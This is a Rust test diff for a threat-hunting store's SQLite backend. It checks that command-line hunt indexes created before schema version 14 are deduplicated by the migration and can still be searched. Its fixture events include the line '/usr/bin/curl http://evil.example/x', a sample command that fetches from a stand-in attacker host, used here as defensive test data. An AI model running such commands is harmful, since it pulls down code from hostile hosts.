@@ -32,3 +32,100 @@ impl Backend for Sqlite {
 }
 
 store_contract!(Sqlite::new());
+
+/// A store hunted before version 14 (every event's command line in one trigram table) keeps
+/// its command-line hunts: the migration moves each distinct text once and points the events
+/// at it.
+#[tokio::test]
+async fn command_lines_indexed_before_version_14_are_still_found() {
+    use std::str::FromStr;
+
+    use crate::store::{HuntQuery, Store};
+
+    let dir = tempfile::tempdir().unwrap();
+    {
+        let opts = sqlx::sqlite::SqliteConnectOptions::from_str("sqlite://")
+            .unwrap()
+            .filename(dir.path().join("server.db"))
+            .create_if_missing(true);
+        let pool = sqlx::sqlite::SqlitePoolOptions::new()
+            .max_connections(1)
+            .connect_with(opts)
+            .await
+            .unwrap();
+        let mut before = sqlx::migrate!("migrations/sqlite");
+        before.migrations = before
+            .migrations
+            .iter()
+            .filter(|m| m.version < 14)
+            .cloned()
+            .collect::<Vec<_>>()
+            .into();
+        before.run(&pool).await.unwrap();
+        for (seq, cmd) in [
+            (1, "/usr/bin/curl http://evil.example/x"),
+            (2, "/bin/ls -la"),
+            (3, "/usr/bin/curl http://evil.example/x"),
+        ] {
+            let body = format!(
+                r#"{{"class_uid":1007,"activity_id":1,"time":{seq},"metadata":{{"uid":"e{seq}"}},"process":{{"cmd_line":"{cmd}"}}}}"#
+            );
+            sqlx::query(
+                "INSERT INTO events (seq, uid, sensor_id, class_uid, time, body) VALUES (?, ?, 's1', 1007, ?, ?)",
+            )
+            .bind(seq)
+            .bind(format!("e{seq}"))
+            .bind(seq)
+            .bind(body)
+            .execute(&pool)
+            .await
+            .unwrap();
+            sqlx::query("INSERT INTO hunt_cmdlines (rowid, cmd_line) VALUES (?, ?)")
+                .bind(seq)
+                .bind(cmd)
+                .execute(&pool)
+                .await
+                .unwrap();
+        }
+        pool.close().await;
+    }
+    let store = SqliteStore::open(dir.path()).await.unwrap();
+    let texts: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM hunt_cmdline_texts")
+        .fetch_one(&store.pool)
+        .await
+        .unwrap();
+    assert_eq!(texts, 2, "each distinct command line is kept once");
+    let hunt = |cmd: &str| HuntQuery {
+        terms: Vec::new(),
+        cmd_line: Some(cmd.to_owned()),
+        since: None,
+        until: None,
+        limit: 10,
+    };
+    let uids = |hits: Vec<(String, serde_json::Value)>| -> Vec<String> {
+        hits.iter()
+            .map(|(_, e)| e["metadata"]["uid"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    assert_eq!(
+        uids(store.hunt(&hunt("evil.exam")).await.unwrap()),
+        ["e3", "e1"]
+    );
+    assert_eq!(uids(store.hunt(&hunt("ls -l")).await.unwrap()), ["e2"]);
+    // New events index onto the migrated texts.
+    store
+        .index_hunt(
+            "hunt",
+            4,
+            &[],
+            &[(4, "/usr/bin/curl http://evil.example/x".to_owned())],
+        )
+        .await
+        .unwrap();
+    let texts: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM hunt_cmdline_texts")
+        .fetch_one(&store.pool)
+        .await
+        .unwrap();
+    assert_eq!(texts, 2);
+    store.close().await;
+}
